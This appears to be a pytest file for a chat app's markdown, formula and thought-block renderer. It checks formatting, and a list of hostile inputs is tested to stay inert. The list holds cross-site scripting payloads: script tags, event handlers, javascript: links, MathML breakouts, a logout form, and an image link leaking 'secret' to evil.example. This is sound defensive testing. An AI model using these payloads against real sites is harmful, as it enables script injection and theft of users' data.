"""Model output as HTML: what people see of markdown, and nothing that a model could do with it."""

from html.parser import HTMLParser

import pytest

from chat.conversations.formulas import ATTRIBUTES, TAGS
from chat.conversations.rendering import LONGEST, to_html


def test_markdown_becomes_markup():
    html = to_html("# 标题\n\n**粗** `x`\n第二行\n\n- 一\n- 二\n\n> 引用\n\n~~删~~")
    for part in (
        "<h1>标题</h1>",
        "<strong>粗</strong>",
        "<code>x</code><br>\n第二行",
        "<li>一</li>",
        "<s>删</s>",
    ):
        assert part in html
    assert "<blockquote>" in html


def test_a_code_block_carries_its_language_and_its_text_untouched():
    html = to_html('```python\nif a < b and "c":\n    pass\n```')
    assert '<div class="code"><div class="code-head"><span>python</span></div>' in html
    assert '<pre tabindex="0"><code class="language-python">if a &lt; b and' in html


def test_html_is_shown_as_it_was_written():
    assert to_html("<b>x</b>") == "<p>&lt;b&gt;x&lt;/b&gt;</p>\n"


def test_a_table_can_be_scrolled():
    assert to_html("|a|b|\n|-|-|\n|1|2|").startswith('<div class="table-wrap"><table>')


@pytest.mark.parametrize(
    ("text", "address"),
    [
        ("看https://example.com/a?b=1，然后", "https://example.com/a?b=1"),
        ("(https://example.com)", "https://example.com"),
        ("**https://example.com.**", "https://example.com"),
    ],
)
def test_a_bare_address_is_a_link_that_ends_where_the_sentence_goes_on(text, address):
    assert (
        f'<a href="{address}" target="_blank" rel="noopener noreferrer nofollow">{address}</a>'
        in to_html(text)
    )


@pytest.mark.parametrize(
    "text", ["manage.py", "me@example.com", "xhttps://example.com", "`https://example.com`"]
)
def test_not_everything_with_a_dot_is_a_link(text):
    assert "<a" not in to_html(text)


@pytest.mark.parametrize(
    ("text", "bold"),
    [
        ("**注意：**请先登录", "注意："),
        ("他说**“你好”**然后走了", "“你好”"),
        ("按**《规定》**办", "《规定》"),
        ("这是**重点**。", "重点"),
        ("**「引」**は", "「引」"),
        ("共**100%**的", "100%"),
        ("plain **bold**, text", "bold"),
    ],
)
def test_bold_stands_next_to_chinese_punctuation(text, bold):
    assert f"<strong>{bold}</strong>" in to_html(text)


@pytest.mark.parametrize("text", ["2 * 3 * 4", "snake_case_name", "中_文_字", "** 空 **", "a**b"])
def test_not_every_asterisk_is_emphasis(text):
    assert "<em>" not in to_html(text) and "<strong>" not in to_html(text)


@pytest.mark.parametrize(
    ("text", "parts"),
    [
        (r"行内 \(E=mc^2\)，", ["<msup><mi>c</mi><mn>2</mn></msup>", "行内 ", "，"]),
        (r"\[ \begin{pmatrix} 1 & 2 \\ 3 & 4 \end{pmatrix} \]", ["<mtd><mn>4</mn></mtd>"]),
        ("$a_1*b_1*c$", ["<msub><mi>b</mi><mn>1</mn></msub><mo>*</mo><mi>c</mi>"]),
        ("得：\n\\[\na\n+ b\n\\]\n完", ["<p>得：</p>", "<mo>+</mo><mi>b</mi>", "<p>完</p>"]),
        ("- 一\n\n  $$\n  x\n  - y\n  $$\n- 二", ["<mo>−</mo><mi>y</mi>", "<p>二</p>"]),
        (r"\(\text{a<b}\)", ["<mtext>a&lt;b</mtext>"]),
        (r"$\begin{aligned}a&=b\\c&=d\end{aligned}$", ["<mtr>", "<mi>d</mi>"]),
        ("|$x$|\n|-|\n|$y$|", ["<th><math", "<td><math"]),
    ],
)
def test_formulas_become_mathml(text, parts):
    html = to_html(text)
    assert "<math" in html
    for part in parts:
        assert part in html, html


@pytest.mark.parametrize(
    "text",
    [
        "从 $5 到 $10",
        "US$5/US$10",
        "$5-$8元",
        "花了$5和$，",
        "`$a$`",
        "$HOME/$PATH",
        r"\$a$",
        "$ a $",
        r"\(",
        r"$\unknown x$",
        r"\(x^\)",
        "$$\n\n$$",
        "\\[\nnever closed",
    ],
)
def test_what_is_no_formula_stays_as_it_was_written(text):
    html = to_html(text)
    assert "<math" not in html
    for word in ("5", "a", "HOME", "unknown x", "closed"):
        assert (word in html) == (word in text)


def test_tasks_have_boxes():
    assert "<li>☐ a</li>\n<li>☑ b</li>" in to_html("- [ ] a\n- [x] b\n- [y] c")


def test_many_formulas_do_not_keep_others_waiting():
    """20,000 characters of them are converted; the rest is shown as written."""
    html = to_html("".join(f"\\(x_{{{n}}}\\)\n" for n in range(6000)))
    assert 1000 < html.count("<math") < 6000 and r"\(x_{5999}\)" in html


HOSTILE = [
    r"\(\href{javascript:alert(1)}{x}\)",
    r"$\style{background:url(https://evil.example)}{x}$",
    r"\[\text{</mtext><script>alert(1)</script><img src=x onerror=alert(1)>}\]",
    r"$\text{<style><img src=x onerror=alert(1)>}$",
    r"$\class{a}{\id{b}{x}}\includegraphics{x}$",
    r"\(x</math><script>alert(1)</script>\)",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![x](https://evil.example/?q=secret)",
    '![x](https://evil.example/a.png "onload=alert(1)")',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&colon;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    '```"><script>alert(1)</script>\nx\n```',
    "```html\n</code></pre><script>alert(1)</script>\n```",
    "`</code><script>alert(1)</script>`",
    '[x](https://a.example "><script>alert(1)</script>")',
    "<svg/onload=alert(1)>",
    "<style>body{display:none}</style>",
    "<iframe src=//evil.example></iframe>",
    "|<script>|\n|-|\n|<img src=x onerror=1>|",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    'https://a.example/"onmouseover="alert(1)',
    "[x](/logout/)",
    "[x](//evil.example)",
    "<form action=/logout/ method=post><button>",
    "\x00<script>\x00",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_stays_text(text):
    """Parsed as a browser would: only known tags, no handlers, no addresses but absolute http(s)
    and mailto links.
    """

    class Reader(HTMLParser):
        def handle_starttag(self, tag, attributes):
            assert tag in {
                "p",
                "br",
                "a",
                "pre",
                "code",
                "div",
                "span",
                "table",
                "thead",
                "tbody",
                "tr",
                "th",
                "td",
                *TAGS.split(),
            }
            for name, value in attributes:
                known = {"href", "title", "target", "rel", "class", "tabindex"}
                assert name in known or name in ATTRIBUTES.get(tag, ()), name
                assert name != "href" or value.startswith(("https://", "http://", "mailto:")), value

    Reader().feed(to_html(text))


@pytest.mark.parametrize(
    "text", ["http://[::1", "[x](http://[bad)", "\ud800", "[" * 2000, ">" * 5000 + "x"]
)
def test_malformed_text_is_shown_rather_than_raised(text):
    assert isinstance(to_html(text), str)


def test_a_text_beyond_the_limit_is_shown_as_written():
    html = to_html("<b>" + "a" * LONGEST)
    assert html.startswith('<div class="code-plain"><pre class="wrap">&lt;b&gt;aaa')


def test_thoughts_are_folded_in_front_of_the_answer():
    html = to_html("<think>\n1 < 2, **so**\n\n- yes\n</think>\n\n**Yes.**")
    assert html.startswith('<details class="thought"><summary>')
    assert "<p>1 &lt; 2, **so**\n\n- yes</p></details>" in html
    assert html.endswith("<p><strong>Yes.</strong></p>\n")
    assert to_html("<think>\n\n</think>\n\nYes.") == "<p>Yes.</p>\n"
    assert to_html("<think>a</think>Yes.").endswith("</details>\n<p>Yes.</p>\n")
    assert "<details" in to_html("<think>\nnot yet done")
    assert "<details" not in to_html("Yes.\n\n<think>\nno\n</think>")


def test_thoughts_are_folded_while_they_are_written():
    from chat.conversations.streaming import StreamedMarkdown

    text = "<think>\nfirst\n\nsecond\n</think>\n\n# Yes\n\n<think>\nno\n</think>\n\nend\n\n"
    stream = StreamedMarkdown()
    for end in range(len(text) + 1):
        stream.grow(text[:end])
        if "first\n" in text[:end] and "</think>\n" not in text[:end]:
            assert stream.open_html.startswith('<details class="thought">')
    closed = "".join(html for html, _end in stream.closed)
    assert closed.startswith('<details class="thought">') and closed.count("<details") == 1
    stream.finish(text, to_html(text))
    assert stream.epoch == 0 and "".join(h for h, _ in stream.closed) == to_html(text)
